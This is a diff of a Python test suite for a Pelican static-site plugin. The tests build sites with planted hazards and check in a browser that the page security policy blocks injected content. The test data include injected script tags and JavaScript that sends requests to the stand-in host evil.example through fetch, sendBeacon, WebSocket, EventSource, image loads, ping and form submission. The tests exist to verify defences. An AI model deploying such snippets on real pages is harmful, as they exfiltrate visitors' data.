@@ -35,11 +35,13 @@ from conftest import (
     HOME,
     LOCAL,
     NEWS,
+    ONE_RELOAD,
     PAPER,
     ROOT,
     SETTINGS,
     Site,
     build,
+    run_papers,
     share,
     until,
     words,
@@ -778,15 +780,18 @@ def merge_files(*hazards: dict[str, str | bytes | Link]) -> dict[str, str | byte
 
 
 TOGETHER = combine_hazards()
-# Each has its own site: every second one that cannot be combined, in one of both settings, and a
-# share of those that can.
+# Each has its own site: a share of those that cannot be combined, and some of those that can.
 TRIED = share(
-    [(name, conf) for name in HAZARDS if name not in TOGETHER for conf in CONFS], one_in=4
+    [(name, conf) for name in HAZARDS if name not in TOGETHER for conf in CONFS], one_in=6
 )
-TRIED += share([(name, conf) for name in TOGETHER for conf in CONFS], one_in=32)
+TRIED += share([(name, conf) for name in TOGETHER for conf in CONFS], one_in=64)
 
 
 # --- The builds -------------------------------------------------------------------
+
+
+# The project that is built first, in the folder of all.
+FIRST = "first/above/project"
 
 
 class Outcome(NamedTuple):
@@ -799,9 +804,8 @@ class Outcome(NamedTuple):
     written: list[str]
 
 
-def run_pelican(project: Path, conf: str, cache: Path) -> int:
+def run_pelican(project: Path, conf: str) -> int:
     """Build a site as `pelican` does without --fatal; return 1 for problems, 2 for a traceback."""
-    from jinja2 import FileSystemBytecodeCache
     from papers.site import search_index
     from pelican import Pelican, signals
     from pelican.settings import read_settings
@@ -811,7 +815,6 @@ def run_pelican(project: Path, conf: str, cache: Path) -> int:
         os.chdir(project)
         address = {"SITEURL": LOCAL} if conf == CONFS[1] else {}
         settings = read_settings(conf, override=address)
-        settings["JINJA_ENVIRONMENT"]["bytecode_cache"] = FileSystemBytecodeCache(str(cache))
         site = Pelican(settings)
         if not address:
             # It takes half of the time, and the published site has the same index.
@@ -859,15 +862,22 @@ def limited(work, log: Path, patience: int = PATIENCE) -> int | None:
     return None
 
 
+def link_templates(cache: Path, other: Path) -> None:
+    """Let another cache have the compiled templates of a cache, most of a small build's work."""
+    for templates in cache.glob("templates-*"):
+        shutil.copytree(templates, other / templates.name, copy_function=os.link)
+
+
 def build_hazard(folder: Path, job: tuple[int, str, str]) -> tuple[str, str, Outcome]:
     """Build the site of one hazard, and look for its effects."""
     number, name, conf = job
     base = folder / f"{number}-{conf[:3]}"
     project = plant(base, HAZARDS[name].files)
     output, cache = project / "output", project / "cache"
+    link_templates(folder / FIRST / "cache", cache)
     before = tree(base, output, cache)
     log = folder / f"{number}-{conf[:3]}.log"
-    code = limited(partial(run_pelican, project, conf, folder / "templates"), log)
+    code = limited(partial(run_pelican, project, conf), log)
     after = tree(base, output, cache)
     changed = sorted(name for name in before | after if before.get(name) != after.get(name))
     secrets = [SECRET] + [DRAFTED] * (conf == CONFS[1])
@@ -884,11 +894,10 @@ def drive(folder: Path) -> None:
 
     pairs = json.load(sys.stdin)
     init()
-    (folder / "templates").mkdir()
     project = plant(folder / "first", {})
     for conf in CONFS:
         # Modules and templates that are loaded now are not loaded again for each site.
-        run_pelican(project, conf, folder / "templates")
+        run_pelican(project, conf)
     jobs = [(n, name, conf) for n, (name, conf) in enumerate(pairs)]
     with multiprocessing.get_context("fork").Pool(os.cpu_count()) as pool:
         results = pool.map(partial(build_hazard, folder), jobs, chunksize=1)
@@ -999,27 +1008,14 @@ def build_accepted(base: Path, conf: str, printed: list[str]) -> None:
 def test_what_is_wrong_is_left_out(tmp_path):
     """`pelican -r`, which continues after problems, publishes what other builds refuse."""
     project = plant(tmp_path, merge_files(*TOGETHER.values()))
-    output, cache, log = project / "output", project / "cache", tmp_path / "log"
+    with (project / CONFS[0]).open("a", encoding="utf-8") as settings:
+        settings.write(ONE_RELOAD)
+    output, cache = project / "output", project / "cache"
     before = tree(tmp_path, output, cache)
-    command = [sys.executable, "-m", "pelican", "-r", "-s", project / CONFS[0], "-o", output]
-    environment = os.environ | {"PLANTED": SECRET, "COLUMNS": "200", "PYTHONUTF8": "1"}
-    with log.open("wb") as file:
-        process = subprocess.Popen(
-            [*command, project / "content"], stdout=file, stderr=subprocess.STDOUT, env=environment
-        )
-        try:
-            end = time.monotonic() + 90
-            while b"Done: Processed" not in log.read_bytes():
-                assert process.poll() is None and time.monotonic() < end, log.read_text()[-2000:]
-                time.sleep(0.1)
-        finally:
-            process.send_signal(signal.SIGINT)
-            process.wait(30)
-    printed = log.read_bytes()
-    log.unlink()
-    assert b"what they name is left out" in printed
+    site = build(project / "content", output, project / CONFS[0], arguments=("-r",), PLANTED=SECRET)
+    assert "Done: Processed" in site.printed and "what they name is left out" in site.printed
     assert tree(tmp_path, output, cache) == before
-    assert leaks(output, [SECRET]) == [] and not holds(printed, SECRET)
+    assert leaks(output, [SECRET]) == [] and not holds(site.printed.encode(), SECRET)
 
 
 @POSIX
@@ -1030,16 +1026,10 @@ def test_commands(tmp_path):
     before = tree(tmp_path, project / "cache")
     for command in ("check", "build", "publish"):
         conf = CONFS[command == "publish"]
-        done = subprocess.run(
-            [sys.executable, ROOT / "plugins/papers", command, "--settings", conf],
-            cwd=project,
-            env=os.environ | {"PLANTED": SECRET, "PYTHONUTF8": "1"},
-            capture_output=True,
-            timeout=120,
-        )
+        done = run_papers(command, "--settings", conf, cwd=project, PLANTED=SECRET)
         printed = done.stdout + done.stderr
-        assert done.returncode == 1 and b"Traceback" not in printed, printed[-2000:]
-        assert not holds(printed, SECRET)
+        assert done.returncode == 1 and "Traceback" not in printed, printed[-2000:]
+        assert not holds(printed.encode(), SECRET)
         assert tree(tmp_path, project / "cache") == before, command
 
 
@@ -1284,7 +1274,10 @@ def test_script_in_a_summary(make):
 
 # --- The policy of pages ------------------------------------------------------------
 
-EVIL = "https://evil.example"
+EVIL, SOCKET = "https://evil.example", "wss://evil.example"
+# Nobody asks for a manifest where nothing is installed, or for the other size of a picture, and
+# of a frame only the host is told.
+UNTOLD = {f"{EVIL}/{name}" for name in ("manifest.json", "picture2.png", "frame")}
 # What a post that got around all checks would hold; each sets a mark, or asks another host.
 INJECTED = {
     "script": "<script>window.evil = 'script'</script>",
@@ -1316,7 +1309,7 @@ INJECTED = {
 ACTS = {
     "fetch": f"fetch('{EVIL}/fetch').catch(() => 0)",
     "beacon": f"navigator.sendBeacon('{EVIL}/beacon', 'x')",
-    "socket": f"void new WebSocket('{EVIL.replace('https', 'wss')}/socket')",
+    "socket": f"void new WebSocket('{SOCKET}/socket')",
     "events": f"void new EventSource('{EVIL}/events')",
     "image": f"void (new Image().src = '{EVIL}/image.png')",
     "ping": f"(() => {{ const a = document.createElement('a'); a.href = '#x'; a.ping = '{EVIL}/ping';"
@@ -1372,18 +1365,25 @@ def inject(site: Site, markup: str) -> None:
 @IN_BROWSER
 def test_policy_stops_what_is_injected(browser, copied):
     """A script, form or image of another host in a text runs, is sent, or is loaded."""
-    for name, markup in INJECTED.items():
-        inject(copied, markup)
-        with Visit(browser, copied, "news/injected/") as seen:
-            seen.page.wait_for_timeout(30)
-            if name in ("link", "form"):
-                seen.page.evaluate(f"document.getElementById('{name}').click()")
-                seen.page.wait_for_timeout(30)
-            assert seen.page.evaluate("window.evil === undefined"), name
-            assert [url for url in seen.asked if not url.startswith(f"{LOCAL}/")] == [], name
-            assert seen.page.url == f"{LOCAL}/news/injected/", name
-            # Something was tried; nobody asks for a manifest where nothing is installed.
-            assert seen.said or name == "manifest"
+    markup = "".join(INJECTED.values())
+    inject(copied, markup)
+    with Visit(browser, copied, "news/injected/") as seen:
+        for name in ("link", "form"):
+            seen.page.evaluate(f"document.getElementById('{name}').click()")
+        refused(seen, markup, EVIL)
+        assert seen.page.url == f"{LOCAL}/news/injected/"
+
+
+def refused(seen: Visit, code: str, *hosts: str) -> None:
+    """Wait until the browser has told of each address in the code; refuse any effect of it."""
+    tried = {url for host in hosts for url in re.findall(rf"{host}/[\w.]+", code)} - UNTOLD
+    for _ in range(200):
+        if all(url in "\n".join(seen.said) for url in tried):
+            break
+        seen.page.wait_for_timeout(20)
+    assert {url for url in tried if url not in "\n".join(seen.said)} == set()
+    assert seen.page.evaluate("window.evil") is None
+    assert [url for url in seen.asked if not url.startswith(f"{LOCAL}/")] == []
 
 
 @IN_BROWSER
@@ -1393,33 +1393,29 @@ def test_policy_stops_what_a_script_would_do(browser, copied):
         "form": f"document.body.insertAdjacentHTML('beforeend', '<form action={EVIL}/form>"
         "<input name=a value=b></form>'); [...document.forms].pop().submit()",
     }
-    for name, code in acts.items():
-        # A file of the site, whose scripts run: a browser's own tools would be let through.
-        late = f"setTimeout(() => {{ window.acted = true; {code}; }}, 20);"
-        (copied.output / "acts.js").write_text(late, encoding="utf-8")
-        inject(copied, "<script src=/acts.js defer></script>")
-        with Visit(browser, copied, "news/injected/") as seen:
-            until(seen.page, "window.acted === true")
-            seen.page.wait_for_timeout(30)
-            assert seen.page.evaluate("window.evil === undefined"), name
-            assert [url for url in seen.asked if not url.startswith(f"{LOCAL}/")] == [], name
-            assert seen.page.url.startswith(f"{LOCAL}/"), name
+    # A file of the site, whose scripts run: a browser's own tools would be let through.
+    late = [
+        f"setTimeout(() => {{ acted++; {code}; }}, {n});" for n, code in enumerate(acts.values())
+    ]
+    code = "".join(["window.acted = 0;", *late])
+    (copied.output / "acts.js").write_text(code, encoding="utf-8")
+    inject(copied, "<script src=/acts.js defer></script>")
+    with Visit(browser, copied, "news/injected/") as seen:
+        until(seen.page, f"window.acted === {len(acts)}")
+        refused(seen, code, EVIL, SOCKET)
+        assert seen.page.url.startswith(f"{LOCAL}/")
 
 
 @IN_BROWSER
 def test_policy_lets_the_site_work(browser, many_papers):
     """The policy blocks parts of the site: search, filters, copying, videos, formulas."""
-    script = "addEventListener('securitypolicyviolation', e => (window.broken ??= []).push(e.blockedURI))"
 
     def visit(path: str) -> Visit:
-        seen = Visit(browser, many_papers, "404.html", permissions=["clipboard-write"])
-        seen.page.add_init_script(script)
-        seen.said.clear()
-        seen.page.goto(f"{LOCAL}/{path}")
-        return seen
+        return Visit(browser, many_papers, path, permissions=["clipboard-write"])
 
     def quiet(seen: Visit) -> None:
-        assert seen.page.evaluate("window.broken || []") == [] and seen.said == []
+        # The browser reports what the policy blocks in its console.
+        assert seen.said == []
 
     with visit("search/?q=engines") as seen:
         seen.page.locator(".search li > a").first.wait_for()
